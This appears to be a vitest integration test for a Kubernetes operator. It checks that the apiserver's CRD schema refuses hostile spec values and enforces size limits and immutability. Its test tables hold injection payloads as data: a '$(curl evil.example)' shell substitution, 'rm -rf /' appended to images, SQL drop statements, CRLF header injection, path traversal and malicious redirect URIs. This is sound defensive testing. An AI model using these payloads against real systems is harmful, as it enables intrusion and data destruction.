// Hostile values at admission, for all five kinds: the real kube-apiserver
// (OpenAPI + CEL from config/crd) must refuse each one with a message naming
// the field, so `kubectl apply` and Argo CD show the error before the
// operator ever sees the object. The operator runs meanwhile (all
// controllers, as its ServiceAccount under config/rbac); the audit log shows
// it never touched any of the refused names. Values at a limit are accepted
// (server-side dry run), one past it refused: the limits are where the
// schema says they are, not one off.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readAuditEvents, startControlPlane, type ControlPlane } from '../../hack/local/controlplane.js';
import { installCrds, installRbac } from '../../hack/local/manifests.js';
import { waitFor } from '../../hack/local/process.js';
import { KubeApiError, KubeClient } from '../../src/core/kube-client.js';
import type { KubeObject } from '../../src/core/reconciler.js';
import { API, namespace } from '../support/kube.js';
import { startOperator, type RunningOperator } from '../support/operator.js';

const NS = 'hostile';
const OPERATOR_USER = 'system:serviceaccount:familyhub-system:familyhub-operator';

let cp: ControlPlane;
let kube: KubeClient;
let op: RunningOperator;
/** Names of every object a case tried to create: none may exist, none may have been touched by the operator. */
const refusedNames = new Set<string>();

type Kind = 'FamilyHub' | 'DatabaseClaim' | 'OIDCClient' | 'Route' | 'Service';

const base: Record<Kind, () => Record<string, unknown>> = {
  FamilyHub: () => ({
    domain: 'family.test',
    allowedEmailDomains: ['family.test'],
    postgres: { host: '127.0.0.1', port: 5432, database: 'familyhub', adminCredentialsSecretRef: { name: 'pg-admin' } },
    identity: { kind: 'oidc-dcr', issuerUrl: 'https://id.family.test' },
    runtime: { image: 'ghcr.io/familyhub/runtime:0.1.0' },
  }),
  DatabaseClaim: () => ({ familyHubRef: { name: 'home' } }),
  OIDCClient: () => ({ familyHubRef: { name: 'home' }, redirectUris: ['https://app.family.test/cb'] }),
  Route: () => ({ familyHubRef: { name: 'home' }, hostname: 'app.family.test', backendRef: { name: 'app', port: 8080 } }),
  Service: () => ({ familyHubRef: { name: 'home' }, image: 'ghcr.io/family/app:1.0', port: 8080, host: 'app.family.test' }),
};

/** Sets `value` at a dotted path of `spec` ("postgres.database", "redirectUris.0"). */
function withValue(spec: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> {
  const keys = path.split('.');
  let o: Record<string, unknown> = spec;
  for (const k of keys.slice(0, -1)) {
    o[k] ??= {};
    o = o[k] as Record<string, unknown>;
  }
  o[keys.at(-1)!] = value;
  return spec;
}

let counter = 0;
function object(kind: Kind, path: string | undefined, value: unknown, name?: string): KubeObject {
  const spec = base[kind]();
  return { apiVersion: API, kind, metadata: { name: name ?? `${kind.toLowerCase()}-h${++counter}`, namespace: NS }, spec: path ? withValue(spec, path, value) : spec };
}

/** The apiserver's rejection of `obj` (422 Invalid); the object must not exist afterwards. */
async function rejectionOf(obj: KubeObject): Promise<string> {
  refusedNames.add(obj.metadata.name);
  let message: string | undefined;
  try {
    await kube.apply(obj, { fieldManager: 'hostile-user' });
  } catch (err) {
    expect(err).toBeInstanceOf(KubeApiError);
    expect((err as KubeApiError).statusCode).toBe(422);
    message = (err as KubeApiError).message;
  }
  if (message === undefined) throw new Error(`the apiserver accepted ${obj.kind} ${obj.metadata.name}: ${JSON.stringify(obj.spec)}`);
  expect(await kube.get(API, obj.kind!, NS, obj.metadata.name)).toBeUndefined();
  return message;
}

const accepted = (obj: KubeObject) => kube.apply(obj, { fieldManager: 'hostile-user', dryRun: true });

const many = <T>(n: number, f: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => f(i));
const label63 = 'a'.repeat(63);

beforeAll(async () => {
  cp = await startControlPlane();
  kube = new KubeClient(cp.kubeConfig);
  await installCrds(cp.kubeConfig);
  await installRbac(cp.kubeConfig);
  await namespace(kube, NS);
  op = await startOperator({
    kubeconfigPath: await cp.serviceAccountKubeconfig('familyhub-system', 'familyhub-operator'),
    name: 'operator-hostile-admission',
    env: { FAMILYHUB_LEASE_NAMESPACE: 'familyhub-system', FAMILYHUB_RESYNC_MS: '2000' },
  });
});

afterAll(async () => {
  await op?.stop();
  await cp?.stop();
});

// [case, kind, spec path, value, field named in the message, optional fragment of the message]
type Case = [string, Kind, string, unknown, string, RegExp?];

const injection: Case[] = [
  // FamilyHub
  ['FamilyHub domain as an IP address', 'FamilyHub', 'domain', '10.0.0.1', 'spec.domain'],
  ['FamilyHub domain with CRLF + header', 'FamilyHub', 'domain', 'family.test\r\nX-Forwarded-User: admin', 'spec.domain'],
  ['FamilyHub domain with a Cyrillic look-alike', 'FamilyHub', 'domain', 'fаmily.test', 'spec.domain'],
  ['FamilyHub allowed e-mail domain as a wildcard', 'FamilyHub', 'allowedEmailDomains', ['*.example.org'], 'spec.allowedEmailDomains[0]'],
  ['FamilyHub postgres database with SQL', 'FamilyHub', 'postgres.database', 'familyhub; DROP DATABASE postgres', 'spec.postgres.database'],
  ['FamilyHub postgres host with a shell substitution', 'FamilyHub', 'postgres.host', '$(curl evil.example)', 'spec.postgres.host'],
  ['FamilyHub admin Secret name with a path traversal', 'FamilyHub', 'postgres.adminCredentialsSecretRef.name', '../kube-system/admin', 'spec.postgres.adminCredentialsSecretRef.name'],
  ['FamilyHub issuer on plain http off loopback', 'FamilyHub', 'identity.issuerUrl', 'http://id.family.test', 'spec.identity.issuerUrl'],
  ['FamilyHub vault address with CRLF', 'FamilyHub', 'vault', { address: 'https://bao.family.test\r\nX-Vault-Token: root', tokenSecretRef: { name: 't' } }, 'spec.vault.address'],
  ['FamilyHub runtime image with a shell command', 'FamilyHub', 'runtime.image', 'ghcr.io/x/y:1 ; rm -rf /', 'spec.runtime.image'],
  // DatabaseClaim
  ['DatabaseClaim schemaName with SQL', 'DatabaseClaim', 'schemaName', 'x"; drop table users; --', 'spec.schemaName'],
  ['DatabaseClaim schemaName public', 'DatabaseClaim', 'schemaName', 'public', 'spec.schemaName', /system schema/],
  ['DatabaseClaim schemaName PUBLIC (folds to public unquoted)', 'DatabaseClaim', 'schemaName', 'PUBLIC', 'spec.schemaName'],
  ['DatabaseClaim schemaName pg_catalog', 'DatabaseClaim', 'schemaName', 'pg_catalog', 'spec.schemaName', /system schema/],
  ['DatabaseClaim schemaName information_schema', 'DatabaseClaim', 'schemaName', 'information_schema', 'spec.schemaName', /system schema/],
  ['DatabaseClaim schemaName of another claim\'s derived schema', 'DatabaseClaim', 'schemaName', 'fh_family_victim', 'spec.schemaName', /fh_/],
  ['DatabaseClaim schemaName with a Cyrillic look-alike', 'DatabaseClaim', 'schemaName', 'аpp', 'spec.schemaName'],
  ['DatabaseClaim schemaName shaped like CEL', 'DatabaseClaim', 'schemaName', "a' || true || '", 'spec.schemaName'],
  ['DatabaseClaim lease under 10s', 'DatabaseClaim', 'credentials', { defaultTtl: '9s' }, 'spec.credentials.defaultTtl', /at least 10s/],
  ['DatabaseClaim negative lease', 'DatabaseClaim', 'credentials', { defaultTtl: '-1h' }, 'spec.credentials.defaultTtl'],
  ['DatabaseClaim maxTtl below defaultTtl', 'DatabaseClaim', 'credentials', { defaultTtl: '2h', maxTtl: '1h' }, 'spec.credentials.maxTtl'],
  ['DatabaseClaim extension with SQL', 'DatabaseClaim', 'extensions', ['pgcrypto; DROP SCHEMA public'], 'spec.extensions[0]'],
  ['DatabaseClaim secretName with a path traversal', 'DatabaseClaim', 'secretName', '../familyhub-system/pg-admin', 'spec.secretName'],
  ['DatabaseClaim secretName with YAML in it', 'DatabaseClaim', 'secretName', 'x\nkind: ClusterRoleBinding', 'spec.secretName'],
  // OIDCClient
  ['OIDCClient wildcard redirect URI', 'OIDCClient', 'redirectUris', ['https://app.family.test/*'], 'spec.redirectUris', /open redirect/],
  ['OIDCClient javascript: redirect URI', 'OIDCClient', 'redirectUris', ['javascript:alert(document.cookie)'], 'spec.redirectUris'],
  ['OIDCClient redirect URI with CRLF + Set-Cookie', 'OIDCClient', 'redirectUris', ['https://app.family.test/cb\r\nSet-Cookie: session=evil'], 'spec.redirectUris'],
  ['OIDCClient redirect URI with userinfo pointing elsewhere', 'OIDCClient', 'redirectUris', ['https://app.family.test@evil.example/cb'], 'spec.redirectUris'],
  ['OIDCClient http redirect to a host starting with localhost', 'OIDCClient', 'redirectUris', ['http://localhost.evil.example/cb'], 'spec.redirectUris'],
  ['OIDCClient wildcard post-logout URI', 'OIDCClient', 'postLogoutRedirectUris', ['https://app.family.test/bye*'], 'spec.postLogoutRedirectUris', /open redirect/],
  ['OIDCClient web origin with a path', 'OIDCClient', 'webOrigins', ['https://app.family.test/x'], 'spec.webOrigins'],
  ['OIDCClient clientId admin-cli', 'OIDCClient', 'clientId', 'admin-cli', 'spec.clientId', /built-in/],
  ['OIDCClient clientId realm-management', 'OIDCClient', 'clientId', 'realm-management', 'spec.clientId', /built-in/],
  ['OIDCClient clientId security-admin-console', 'OIDCClient', 'clientId', 'security-admin-console', 'spec.clientId', /built-in/],
  ['OIDCClient clientId with a Cyrillic look-alike of admin-cli', 'OIDCClient', 'clientId', 'аdmin-cli', 'spec.clientId'],
  ['OIDCClient scope with a space (a second scope smuggled in)', 'OIDCClient', 'defaultScopes', ['openid offline_access'], 'spec.defaultScopes[0]'],
  ['OIDCClient unknown grant type', 'OIDCClient', 'grantTypes', ['implicit'], 'spec.grantTypes[0]'],
  ['OIDCClient rotation interval under 1m', 'OIDCClient', 'rotation', { interval: '59s' }, 'spec.rotation.interval', /at least 1m/],
  // Route
  ['Route hostname as an IPv4 address', 'Route', 'hostname', '192.168.1.10', 'spec.hostname'],
  ['Route wildcard hostname', 'Route', 'hostname', '*.family.test', 'spec.hostname'],
  ['Route hostname with CRLF + Host header', 'Route', 'hostname', 'app.family.test\r\nHost: evil.example', 'spec.hostname'],
  ['Route hostname with a Cyrillic look-alike', 'Route', 'hostname', 'аpp.family.test', 'spec.hostname'],
  ['Route path with a .. segment', 'Route', 'pathPrefix', '/app/../admin', 'spec.pathPrefix', /segments/],
  ['Route path with //', 'Route', 'pathPrefix', '//evil.example/x', 'spec.pathPrefix'],
  ['Route path with an encoded /', 'Route', 'pathPrefix', '/app/..%2Fadmin', 'spec.pathPrefix'],
  ['Route path ending in /.', 'Route', 'pathPrefix', '/app/.', 'spec.pathPrefix'],
  ['Route path with CRLF', 'Route', 'pathPrefix', '/app\r\nX-Injected: 1', 'spec.pathPrefix'],
  ['Route backend in another namespace (dotted name)', 'Route', 'backendRef', { name: 'db.kube-system', port: 5432 }, 'spec.backendRef.name'],
  ['Route rate limit of zero', 'Route', 'rateLimit', { requests: 0, unit: 'Second' }, 'spec.rateLimit.requests'],
  ['Route groups without auth', 'Route', 'auth', { required: false, requiredGroups: ['parents'] }, 'spec.auth'],
  // Service
  ['Service env name that looks like a credential', 'Service', 'env', [{ name: 'DB_PASSWORD', value: 'hunter2' }], 'spec.env', /look like credentials/],
  ['Service env name with shell', 'Service', 'env', [{ name: 'A=1; rm -rf /', value: 'x' }], 'spec.env[0].name'],
  ['Service host as an IP address', 'Service', 'host', '10.1.2.3', 'spec.host'],
  ['Service image with a newline', 'Service', 'image', 'ghcr.io/x/y:1\nrm -rf /', 'spec.image'],
  ['Service port out of range', 'Service', 'port', 70000, 'spec.port'],
];

describe('hostile values are refused at admission, naming the field', () => {
  it.each(injection)('%s', async (_case, kind, path, value, field, fragment) => {
    const message = await rejectionOf(object(kind, path, value));
    expect(message).toContain(field);
    if (fragment) expect(message).toMatch(fragment);
  });
});

// [case, kind, path, value at the limit (accepted), value one past it (refused), field]
type Limit = [string, Kind, string, unknown, unknown, string];

const limits: Limit[] = [
  ['DatabaseClaim schemaName 63/64 characters', 'DatabaseClaim', 'schemaName', 's'.repeat(63), 's'.repeat(64), 'spec.schemaName'],
  ['DatabaseClaim secretName 253/254 characters', 'DatabaseClaim', 'secretName', `${label63}.${label63}.${label63}.${'b'.repeat(61)}`, `${label63}.${label63}.${label63}.${'b'.repeat(62)}`, 'spec.secretName'],
  ['DatabaseClaim lease 10s/9s', 'DatabaseClaim', 'credentials', { defaultTtl: '10s' }, { defaultTtl: '9s' }, 'spec.credentials.defaultTtl'],
  ['DatabaseClaim 32/33 extensions', 'DatabaseClaim', 'extensions', many(32, (i) => `ext${i}`), many(33, (i) => `ext${i}`), 'spec.extensions'],
  ['OIDCClient clientId 64/65 characters', 'OIDCClient', 'clientId', 'c'.repeat(64), 'c'.repeat(65), 'spec.clientId'],
  ['OIDCClient 32/33 redirect URIs', 'OIDCClient', 'redirectUris', many(32, (i) => `https://app.family.test/cb${i}`), many(33, (i) => `https://app.family.test/cb${i}`), 'spec.redirectUris'],
  ['OIDCClient redirect URI 2048/2049 characters', 'OIDCClient', 'redirectUris', [`https://app.family.test/${'p'.repeat(2048 - 24)}`], [`https://app.family.test/${'p'.repeat(2049 - 24)}`], 'spec.redirectUris[0]'],
  ['OIDCClient rotation interval 1m/59s', 'OIDCClient', 'rotation', { interval: '1m' }, { interval: '59s' }, 'spec.rotation.interval'],
  ['FamilyHub 32/33 allowed e-mail domains', 'FamilyHub', 'allowedEmailDomains', many(32, (i) => `d${i}.example.org`), many(33, (i) => `d${i}.example.org`), 'spec.allowedEmailDomains'],
  ['Route hostname label 63/64 characters', 'Route', 'hostname', `${label63}.family.test`, `${label63}a.family.test`, 'spec.hostname'],
  ['Route pathPrefix 1024/1025 characters', 'Route', 'pathPrefix', `/${'p'.repeat(1023)}`, `/${'p'.repeat(1024)}`, 'spec.pathPrefix'],
  ['Route 32/33 required groups', 'Route', 'auth', { requiredGroups: many(32, (i) => `g${i}`) }, { requiredGroups: many(33, (i) => `g${i}`) }, 'spec.auth.requiredGroups'],
  ['Service env value 4096/4097 characters', 'Service', 'env', [{ name: 'GREETING', value: 'v'.repeat(4096) }], [{ name: 'GREETING', value: 'v'.repeat(4097) }], 'spec.env[0].value'],
  ['Service 64/65 env entries', 'Service', 'env', many(64, (i) => ({ name: `V${i}`, value: 'x' })), many(65, (i) => ({ name: `V${i}`, value: 'x' })), 'spec.env'],
  ['Service 20/21 replicas', 'Service', 'replicas', 20, 21, 'spec.replicas'],
];

describe('fields the schema does not know never reach the operator', () => {
  it('server-side apply refuses them naming the field; a plain create stores the object without them', async () => {
    // A YAML document with an extra key (e.g. an inline password next to the Secret reference).
    const smuggled = object('FamilyHub', 'postgres.passwordInline', 'hunter2-inline', 'smuggled');
    refusedNames.add('smuggled-apply');
    let message = '';
    try {
      await kube.apply({ ...smuggled, metadata: { ...smuggled.metadata, name: 'smuggled-apply' } }, { fieldManager: 'hostile-user' });
    } catch (err) {
      message = (err as Error).message;
    }
    expect(message).toContain('.spec.postgres.passwordInline: field not declared in schema');
    expect(await kube.get(API, 'FamilyHub', NS, 'smuggled-apply')).toBeUndefined();
    const stored = await kube.create(smuggled);
    expect(stored.spec.postgres).not.toHaveProperty('passwordInline');
    expect(JSON.stringify(await kube.get(API, 'FamilyHub', NS, 'smuggled'))).not.toContain('hunter2-inline');
    await kube.delete(API, 'FamilyHub', NS, 'smuggled');
    await waitFor('smuggled FamilyHub finalized', async () => !(await kube.get(API, 'FamilyHub', NS, 'smuggled')), { timeoutMs: 30_000 });
  });
});

describe('oversize values: accepted at the limit, refused one past it', () => {
  it.each(limits)('%s', async (_case, kind, path, atLimit, over, field) => {
    await accepted(object(kind, path, atLimit));
    const message = await rejectionOf(object(kind, path, over));
    expect(message).toContain(field);
  });

  it('object names longer than the child names they derive allow are refused', async () => {
    // A Service names its children after itself; the CRD keeps that under 50.
    const message = await rejectionOf(object('Service', undefined, undefined, 's'.repeat(51)));
    expect(message).toContain('metadata.name');
    await accepted(object('Service', undefined, undefined, 's'.repeat(50)));
  });
});

describe('an update cannot move a claim or client onto someone else\'s', () => {
  it('DatabaseClaim schemaName and familyHubRef, OIDCClient clientId are immutable', async () => {
    const claim = object('DatabaseClaim', 'schemaName', 'mine', 'moves-schema');
    await kube.apply(claim, { fieldManager: 'hostile-user' });
    const a = await rejection(() => kube.apply(object('DatabaseClaim', 'schemaName', 'victims', 'moves-schema'), { fieldManager: 'hostile-user' }));
    expect(a).toContain('spec.schemaName');
    expect(a).toMatch(/immutable/);
    const b = await rejection(() => kube.apply({ ...claim, spec: { ...claim.spec, familyHubRef: { name: 'other-hub' } } }, { fieldManager: 'hostile-user' }));
    expect(b).toContain('spec.familyHubRef');
    const client = object('OIDCClient', 'clientId', 'mine', 'moves-client');
    await kube.apply(client, { fieldManager: 'hostile-user' });
    const c = await rejection(() => kube.apply(object('OIDCClient', 'clientId', 'victims-client', 'moves-client'), { fieldManager: 'hostile-user' }));
    expect(c).toContain('spec.clientId');
    const stored = await kube.get(API, 'DatabaseClaim', NS, 'moves-schema');
    expect(stored?.spec.schemaName).toBe('mine');
    expect((await kube.get(API, 'OIDCClient', NS, 'moves-client'))?.spec.clientId).toBe('mine');
    for (const [kind, name] of [['DatabaseClaim', 'moves-schema'], ['OIDCClient', 'moves-client']] as const) {
      await kube.mergePatch(API, kind, NS, name, { metadata: { annotations: { 'familyhub.dev/skip-cleanup': 'true' } } });
      await kube.delete(API, kind, NS, name);
    }
  });

  it('the operator never wrote, read or deleted any refused object', async () => {
    const touched = readAuditEvents(cp.auditLogPath)
      .filter((e) => e.user.username === OPERATOR_USER && e.objectRef?.name && refusedNames.has(e.objectRef.name));
    expect(refusedNames.size).toBeGreaterThanOrEqual(injection.length + limits.length);
    expect(touched).toEqual([]);
    // ...and it was running all along (not a vacuous pass).
    expect((await fetch(`http://127.0.0.1:${op.port}/healthz`)).ok).toBe(true);
  });
});

async function rejection(fn: () => Promise<unknown>): Promise<string> {
  try {
    await fn();
  } catch (err) {
    expect(err).toBeInstanceOf(KubeApiError);
    expect((err as KubeApiError).statusCode).toBe(422);
    return (err as KubeApiError).message;
  }
  throw new Error('the apiserver accepted an update it should have rejected');
}
